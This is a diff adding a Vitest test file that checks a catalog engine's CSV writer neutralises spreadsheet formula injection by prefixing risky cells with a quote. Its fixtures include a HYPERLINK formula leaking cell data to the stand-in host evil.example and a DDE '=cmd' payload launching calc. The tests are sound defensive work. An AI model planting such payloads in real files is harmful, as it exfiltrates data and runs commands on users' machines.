@@ -1,0 +1,98 @@
+import { fileURLToPath } from "node:url";
+import { csvLine, csvLines } from "@docket/engine";
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { insertSet, query } from "./support/catalogFixture.ts";
+import { createTestEngine, waitForStatus } from "./support/testEngine.ts";
+
+const jobsDir = fileURLToPath(new URL("../jobs/", import.meta.url));
+
+/** The cells of a CSV text as a strict RFC 4180 parser reads them. */
+function parseCsv(text: string): string[][] {
+  return parse(text, { bom: true, relax_column_count: false });
+}
+
+describe("the CSV writer", () => {
+  it("writes text that starts like a formula as text, and numbers as numbers", () => {
+    expect(
+      csvLine(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "＋1", "－1", "＠x"]),
+    ).toBe("'=1+1,'+1,'-1,'@SUM(A1),'\tx,\"'\rx\",'＝1,'＋1,'－1,'＠x\r\n");
+    // A negative number in a number-typed field is a number; the same characters as text are not.
+    expect(csvLine([-5, "-5", 0, 3.25, -0.5])).toBe("-5,'-5,0,3.25,-0.5\r\n");
+    // Only the first character counts: these are ordinary text.
+    expect(csvLine(["a=b", " =1", "1-2", "e@mail"])).toBe("a=b, =1,1-2,e@mail\r\n");
+    expect(csvLine([true, false, null, undefined, "", new Date("2026-05-31T23:59:59Z")])).toBe(
+      "true,false,,,,2026-05-31T23:59:59.000Z\r\n",
+    );
+    expect(csvLines([])).toBe("");
+  });
+
+  it("quotes so that csv-parse reads back exactly the cells written", () => {
+    const rows = [
+      ["plain", 'a "quoted" word', "comma, inside", "line\nbreak", "carriage\rreturn"],
+      ["crlf\r\ninside", "", "  spaced  ", "Zoë · 東京 · 🦉", '"'],
+      ['=HYPERLINK("http://x","y, z")', "-", "'already quoted", ",", "\n"],
+    ];
+    const text = csvLines(rows);
+    expect(text.endsWith("\r\n")).toBe(true);
+    const neutralised = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);
+    expect(parseCsv(text)).toEqual(rows.map((row) => row.map(neutralised)));
+    expect(parseCsv(csvLine([-5, 12, "-5"]))).toEqual([["-5", "12", "'-5"]]);
+  });
+
+  it("neutralises formula-looking titles in the file records.export-csv writes", async () => {
+    await using t = await createTestEngine({ jobsDir });
+    const url = t.database.url;
+    const titles = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      "+1+1",
+      "-2+3",
+      "@SUM(1,2)",
+      "\tTabbed title",
+      "Plain, with a comma",
+    ];
+    await query(
+      url,
+      `insert into bib_records (id, title, author, year, subjects)
+       select g, ($1::text[])[g], case when g = 2 then '=cmd|'' /C calc''!A0' else 'Author ' || g end,
+              case when g = 3 then -44 else 1900 + g end, array['-Subject', 'Art']
+       from generate_series(1, $2::int) g`,
+      [titles, titles.length],
+    );
+    const setId = await insertSet(url, {
+      name: "Formulas",
+      target: "records",
+      memberIds: { from: 1, to: titles.length },
+    });
+    await using _worker = await t.engine.startWorker();
+    const run = await t.engine.startRun({
+      jobId: "records.export-csv",
+      params: {},
+      setId,
+      createdBy: "ana",
+    });
+    expect((await waitForStatus(t.engine, run.id, ["completed", "failed"])).status).toBe(
+      "completed",
+    );
+    let csv = "";
+    for await (const chunk of t.engine.readRunFile(run.id, "records.csv")) csv += chunk;
+
+    const [header, ...rows] = parseCsv(csv);
+    expect(header).toEqual(["id", "title", "author", "year", "subjects"]);
+    expect(rows.map((row) => row[1])).toEqual([
+      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+      "'+1+1",
+      "'-2+3",
+      "'@SUM(1,2)",
+      "'\tTabbed title",
+      "Plain, with a comma",
+    ]);
+    expect(rows[1]?.[2]).toBe("'=cmd|' /C calc'!A0");
+    // The year is a number in the catalog: -44 stays a number a spreadsheet can sum.
+    expect(rows.map((row) => row[3])).toEqual(["1901", "1902", "-44", "1904", "1905", "1906"]);
+    expect(rows[0]?.[4]).toBe("'-Subject | Art");
+    // Not a single cell of the file starts like a formula.
+    const cells = rows.flat().filter((_, index) => index % 5 !== 3);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+});
